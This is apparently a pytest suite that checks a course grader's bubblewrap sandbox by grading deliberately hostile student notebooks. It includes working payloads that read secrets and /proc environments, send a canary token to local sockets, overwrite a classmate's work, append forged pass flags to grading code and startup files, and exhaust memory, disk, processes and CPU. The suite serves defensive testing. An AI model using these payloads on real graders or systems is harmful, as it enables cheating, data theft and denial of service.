"""Grading in a sandbox (issue 22): a submission cannot read beyond its own notebook, harm the
teacher or other learners, tamper lastingly, or exhaust the machine.

One class folder holds an honest solution, a stub, and a hostile notebook of each kind; it is
graded with ``--jobs 2 --csv`` (quick mode, small limits) as root and as an unprivileged user
(``setpriv``; as root, a private mount namespace first makes the Python installation readable to
that user, as an installation outside ``/root`` would be). The teacher's canary file, the
solutions, a classmate's notebook, the earlier gradebook and a canary token in the grader's
environment must stay unread; a local TCP and a Unix socket must receive nothing; the package and
the teacher's IPython folder must stay unchanged; each limit hit must be named.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

from conftest import skip_or_fail
from nnscratch.grade import sandbox

ROOT = Path(__file__).resolve().parents[1]
TOKEN = f"CANARY-{uuid.uuid4().hex}"
LIMITS = ["--memory", "2", "--processes", "64", "--disk", "64", "--file-size", "16"]
LIMITS += ["--cpu", "10", "--max-output", "1"]


@pytest.fixture(scope="module")
def works():
    """bwrap must run here: a trial run, not only an installed program."""
    try:
        return sandbox.plan([])
    except sandbox.Unavailable as why:
        skip_or_fail(f"the sandbox cannot run here: {why}")


def tiny(path: Path, code: str, exercise: str = "01_relu") -> Path:
    nb = nbformat.v4.new_notebook()
    nb.metadata["nnscratch"] = {"exercise": exercise}
    nb.cells = [nbformat.v4.new_code_cell(code)]
    nbformat.write(nb, path)
    return path


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


READ = """
import json, os
targets = {targets!r}
found = {{}}
for name, path in targets.items():
    try:
        found[name] = open(path, errors="replace").read(200)
    except OSError as exc:
        found[name] = type(exc).__name__
env = dict(os.environ)
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        env[pid] = open(f"/proc/{{pid}}/environ", errors="replace").read()
        env[pid + "cmd"] = open(f"/proc/{{pid}}/cmdline", errors="replace").read()
    except OSError:
        pass
print(json.dumps({{"found": found, "token": "{token}" in json.dumps(env), "pids": len(env)}}))
raise RuntimeError("READ " + json.dumps(found) + " token " + str("{token}" in json.dumps(env)))
"""

LEAK = """
import socket
sent = []
for family, address in [(socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, {unix!r}),
                        (socket.AF_UNIX, "\\0{abstract}")]:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(address)
            s.sendall(b"{token}")
            sent.append(str(address))
    except OSError as exc:
        pass
raise RuntimeError(f"LEAK sent to {{sent}}")
"""

HARM = """
import glob, json, os, time
stub = open({victim!r}).read() if os.path.exists({victim!r}) else None
for path in [{victim!r}]:
    try:
        open(path, "w").write("{{}}")
    except OSError:
        pass
found = []
deadline = time.time() + 8  # while the classmate runs: look for its kernel
while time.time() < deadline and not found:
    for pattern in ["/tmp/**/*.json", "/run/**/*.json", "/grade/**/*.json",
                    "/root/.local/share/jupyter/runtime/*.json"]:
        for path in glob.glob(pattern, recursive=True):
            try:
                if path != "/run/kernel.json" and "shell_port" in open(path).read():
                    found.append(path)
            except OSError:
                pass
    for path in glob.glob("/proc/*/cmdline"):
        try:
            args = open(path, errors="replace").read().split("\\0")
        except OSError:
            continue
        if "-f" in args[:-1] and args[args.index("-f") + 1] != "/run/kernel.json":
            found.append(args[args.index("-f") + 1])
    time.sleep(1)
raise RuntimeError(f"HARM found {{found}}")
"""

TAMPER = """
import os, nnscratch.grade.checks.ex01_relu as target
done = []
for path, text in [(target.__file__, "\\nPASSED_ALWAYS = True\\n"),
                   (os.path.expanduser("~/.ipython/profile_default/startup/00-pass.py"),
                    "import nnscratch.grade as g; g.PASSED.update(relu='forged')\\n"),
                   ({teacher_startup!r}, "print('tampered')\\n"),
                   (os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "x = 1\\n")]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as f:
            f.write(text)
        done.append(path)
    except OSError:
        pass
raise RuntimeError(f"TAMPER wrote {{done}}")
"""

EXHAUST = {
    "memory": "import numpy as np\nx = np.ones(2**29)",  # 4 GiB in one process
    "memory_together": (
        "import os, time, numpy as np\n"
        "for i in range(4):\n"
        "    if os.fork() == 0:\n"
        "        x = np.ones(96 * 2**20); time.sleep(60); os._exit(0)\n"  # 0.75 GiB each
        "time.sleep(60)"
    ),
    "disk": (
        "block = b'x' * 2**20\n"
        "for i in range(200):\n"
        "    open(f'/grade/f{i}', 'wb').write(block * 8)"
    ),
    "file_size": "open('/tmp/big', 'wb').write(b'x' * 32 * 2**20)",
    "processes": (
        "import threading, time\n"
        "for i in range(500):\n"
        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()"
    ),
    "cpu": "while True:\n    pass",
    "output": "for i in range(3000):\n    print('x' * 1000)",
}
NAMED = {
    "memory": "memory limit",
    "memory_together": "memory limit",
    "disk": "disk limit",
    "file_size": "file size limit",
    "processes": "process limit",
    "cpu": "CPU time limit",
    "output": "output",
}


class Listener:
    """A local TCP and a Unix socket that record whatever reaches them."""

    def __init__(self, folder: Path) -> None:
        self.received: list[bytes] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.unix_path = str(folder / "leak.sock")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.unix_path)
        os.chmod(self.unix_path, 0o777)
        self.abstract = f"nnscratch-leak-{uuid.uuid4().hex[:8]}"
        self.abs = socket.socket(socket.AF_UNIX)
        self.abs.bind("\0" + self.abstract)
        for s in (self.tcp, self.unix, self.abs):
            s.listen()
            threading.Thread(target=self._accept, args=(s,), daemon=True).start()

    def _accept(self, s: socket.socket) -> None:
        while True:
            try:
                conn, _ = s.accept()
            except OSError:
                return
            with conn:
                self.received.append(conn.recv(1024) or b"(connected)")

    def close(self) -> None:
        for s in (self.tcp, self.unix, self.abs):
            s.close()


def make_class(base: Path, listener: Listener) -> dict:
    """The class folder, the teacher's files, and what must stay as it is."""
    folder, teacher = base / "submissions", base / "teacher"
    folder.mkdir()
    teacher.mkdir()
    canary = teacher / "secret.txt"
    canary.write_text(f"{TOKEN} the teacher's secret\n")
    startup = teacher / ".ipython/profile_default/startup/00-teacher.py"
    (base / "grades.csv").write_text(f"learner,score\n{TOKEN},1.00\n")
    honest = folder / "alice-01_relu.ipynb"
    honest.write_text((ROOT / "solutions/01_relu.ipynb").read_text())
    shutil.copy(ROOT / "exercises/01_relu.ipynb", folder / "zoe-01_relu.ipynb")  # graded last
    targets = {
        "teacher": str(canary),
        "solution": str(ROOT / "solutions/01_relu.ipynb"),
        "classmate": str(honest),
        "gradebook": str(base / "grades.csv"),
        "grader_env": "/proc/1/environ",
    }
    tiny(folder / "reader-01_relu.ipynb", READ.format(targets=targets, token=TOKEN))
    leak = LEAK.format(
        port=listener.port, unix=listener.unix_path, abstract=listener.abstract, token=TOKEN
    )
    tiny(folder / "leaker-01_relu.ipynb", leak)
    tiny(folder / "harmer-01_relu.ipynb", HARM.format(victim=str(honest)))
    tiny(folder / "tamperer-01_relu.ipynb", TAMPER.format(teacher_startup=str(startup)))
    for kind, code in EXHAUST.items():
        tiny(folder / f"x_{kind}-01_relu.ipynb", code)
    package = ROOT / "nnscratch/grade/checks/ex01_relu.py"
    return {
        "folder": folder,
        "out": base / "grades.csv",
        "honest": (honest, digest(honest)),
        "package": (package, digest(package)),
        "startup": startup,
    }


def run_class(base: Path, as_nobody: str) -> tuple[subprocess.CompletedProcess, dict, Listener]:
    listener = Listener(base)
    kept = make_class(base, listener)
    command = [sys.executable, "-m", "nnscratch.grade", "--quick", "--jobs", "2", *LIMITS]
    command += ["--exercises", "01_relu", "--csv", str(kept["out"]), str(kept["folder"])]
    env = dict(os.environ, NNSCRATCH_TEST_TOKEN=TOKEN)
    if as_nobody == "unprivileged":
        shutil.chown(base, 65534, 65534)
        for path in base.rglob("*"):
            os.lchown(path, 65534, 65534)
        env["HOME"] = str(base)
    if as_nobody != "as-root-or-user":
        command = unprivileged(command, switch=as_nobody == "unprivileged")
    run = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=900)
    listener.close()
    return run, kept, listener


def unprivileged(command: list[str], switch: bool = True) -> list[str]:
    """``command`` as uid 65534 (or as root if not ``switch``): as root, in a private mount
    namespace where the folders that user cannot enter (e.g. /root, when Python is installed
    there) hold only what is needed."""
    if os.geteuid() != 0:
        return command
    script = ["set -e", "stage=$(mktemp -d)", "i=0"]
    for path in sandbox.needed():
        closed = [p for p in reversed(path.parents) if not os.stat(p).st_mode & stat.S_IXOTH]
        if closed:
            script += [
                "i=$((i+1)); mkdir -p $stage/$i",
                f"mount --bind '{path}' $stage/$i",
                f"mountpoint -q '{closed[0]}' || mount -t tmpfs -o mode=0755 tmpfs '{closed[0]}'",
                f"mkdir -p '{path}'; mount --bind $stage/$i '{path}'",
            ]
    drop = "setpriv --reuid=65534 --regid=65534 --clear-groups --" if switch else ""
    script += [f'exec {drop} "$@"']
    prefix = ["unshare", "--mount", "--propagation", "private", "bash", "-c", "\n".join(script)]
    return [*prefix, "unprivileged", *command]


def rows_of(path: Path) -> dict[str, dict]:
    with open(path, newline="") as f:
        return {r["learner"]: r for r in csv.DictReader(f) if r["exercise"] == "01_relu"}


WHO = ["as-root-or-user", "root-bwrap-as-nobody", "unprivileged"]


@pytest.mark.parametrize("who", WHO)
def test_a_hostile_class_is_contained(works, who):
    """As root (bubblewrap mapped to root, or run as nobody when the environment is readable by
    nobody), and as an unprivileged user: the three ways the sandbox is made."""
    if who != "as-root-or-user" and os.geteuid() != 0:
        pytest.skip("the grader already runs unprivileged: the first case covers it")
    base = Path(tempfile.mkdtemp(prefix="nnscratch-sandbox-test-"))
    os.chmod(base, 0o755)
    try:
        run, kept, listener = run_class(base, who)
        out = kept["out"]
        assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
        rows = rows_of(out)
        said = out.read_text() + run.stdout + run.stderr
        mode = {"root-bwrap-as-nobody": "(nobody) inside and outside", "unprivileged": "your user"}
        assert "sandbox: bubblewrap" in run.stderr and mode.get(who, "") in run.stderr, run.stderr
        assert rows["alice"]["score"] == "1.00", rows["alice"]
        assert rows["zoe"]["score"] == "0.00", rows["zoe"]  # graded after the tamperer
        assert TOKEN not in said, "a canary reached the grader's output"
        assert listener.received == [], listener.received
        assert digest(kept["honest"][0]) == kept["honest"][1]
        assert digest(kept["package"][0]) == kept["package"][1]
        assert not kept["startup"].exists()
        assert (base / "grades.previous.csv").read_text().endswith(f"{TOKEN},1.00\n")
        for kind, words in NAMED.items():
            assert words in rows[f"x_{kind}"]["problem"], (kind, rows[f"x_{kind}"])
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_each_hostile_notebook_reports_what_it_could_not_do(works, tmp_path):
    """The same notebooks graded alone (JSON report): what each of them saw, in its own words."""
    listener = Listener(tmp_path)
    kept = make_class(tmp_path, listener)
    names = ["reader", "leaker", "harmer", "tamperer"]
    paths = [str(kept["folder"] / f"{n}-01_relu.ipynb") for n in names]
    report = tmp_path / "report.json"
    command = [sys.executable, "-m", "nnscratch.grade", "--quick", "--jobs", "2", "--only", "relu"]
    run = subprocess.run(
        [*command, "--json", str(report), *paths],
        cwd=ROOT,
        env=dict(os.environ, NNSCRATCH_TEST_TOKEN=TOKEN),
        capture_output=True,
        text=True,
        timeout=600,
    )
    listener.close()
    notes = {
        Path(r["path"]).name.split("-")[0]: " ".join(r["notes"]) for r in json.load(open(report))
    }
    read = notes["reader"]
    for target in ("teacher", "solution", "classmate", "gradebook"):
        assert f'"{target}": "FileNotFoundError"' in read, read
    assert "token False" in read, read
    assert "LEAK sent to []" in notes["leaker"], notes["leaker"]
    assert "HARM found []" in notes["harmer"], notes["harmer"]
    wrote = notes["tamperer"]
    assert "ex01_relu.py" not in wrote and "sitecustomize" not in wrote, wrote
    assert str(kept["startup"]) not in wrote or not kept["startup"].exists(), wrote
    assert TOKEN not in run.stdout + run.stderr + report.read_text()


def without_bwrap(tmp_path: Path, refused: bool) -> dict:
    """An environment where bwrap is missing, or installed but refused (as in some containers)."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("bash", "sh", "setpriv", "unshare"):
        if shutil.which(tool):
            os.symlink(shutil.which(tool), bin_dir / tool)
    if refused:
        fake = bin_dir / "bwrap"
        fake.write_text(
            "#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n"
        )
        fake.chmod(0o755)
    return dict(os.environ, PATH=str(bin_dir))


@pytest.mark.parametrize("refused", [False, True], ids=["missing", "refused"])
def test_without_bwrap_the_grader_says_why_and_grades_only_the_exercises_folder(tmp_path, refused):
    env = without_bwrap(tmp_path, refused)
    copy = tmp_path / "alice-01_relu.ipynb"
    shutil.copy(ROOT / "exercises/01_relu.ipynb", copy)
    grade = [sys.executable, "-m", "nnscratch.grade", "--quick", "--only", "relu"]

    def run(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            [*grade, *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=600
        )

    outside = run(str(copy))
    assert outside.returncode == 2, outside.stdout + outside.stderr
    if refused:
        assert "its trial run failed" in outside.stderr, outside.stderr
        assert "user namespaces" in outside.stderr, outside.stderr
    else:
        assert "bubblewrap (bwrap) is not installed" in outside.stderr, outside.stderr
        assert "apt-get install bubblewrap" in outside.stderr, outside.stderr
    assert "not graded: the sandbox cannot run here" in outside.stdout, outside.stdout
    assert (
        "--no-sandbox" in outside.stdout and "read, change or delete your files" in outside.stdout
    )
    own = run("exercises/01_relu.ipynb")  # a learner's own exercise: graded, without a sandbox
    assert own.returncode == 1 and "score 01_relu: 0/1" in own.stdout, own.stdout + own.stderr
    forced = run("--no-sandbox", str(copy))
    assert forced.returncode == 1 and "score 01_relu: 0/1" in forced.stdout, forced.stderr
    assert "warning: --no-sandbox runs every notebook with your own rights" in forced.stderr
    book = run("--csv", str(tmp_path / "grades.csv"), str(tmp_path))
    assert book.returncode == 2 and "without the sandbox" in book.stderr, book.stderr
    assert not (tmp_path / "grades.csv").exists()


def test_the_kernel_gets_only_the_grades_environment(tmp_path, monkeypatch):
    from nnscratch.grade.sandbox_kernel import Sandbox
    from nnscratch.grade.settings import Settings

    monkeypatch.setenv("NNSCRATCH_TEST_TOKEN", TOKEN)
    monkeypatch.setenv("OPENBLAS_NUM_THREADS", "8")
    plan = {"limits": {}, "python": sys.executable, "data": ["/data/mnist"], "user": None}
    env = Sandbox(plan, tmp_path, Settings(quick=False)).environment()
    assert TOKEN not in json.dumps(env) and "NNSCRATCH_QUICK" not in env
    assert env["OPENBLAS_NUM_THREADS"] == "1" and env["HOME"].startswith(sandbox.SCRATCH)
    assert env["NNSCRATCH_DATA"] == sandbox.DATA
    assert Sandbox(plan, tmp_path, Settings(quick=True)).environment()["NNSCRATCH_QUICK"] == "1"


def test_the_sandbox_binds_the_environment_not_the_repository():
    import nnscratch

    repo = Path(nnscratch.__file__).resolve().parents[1]
    bound = sandbox.needed()
    assert repo / "nnscratch" in bound and repo not in bound
    assert not any(p in (repo / "solutions").parents for p in bound if p != Path("/"))
    assert Path.home() not in bound and Path.cwd() not in bound
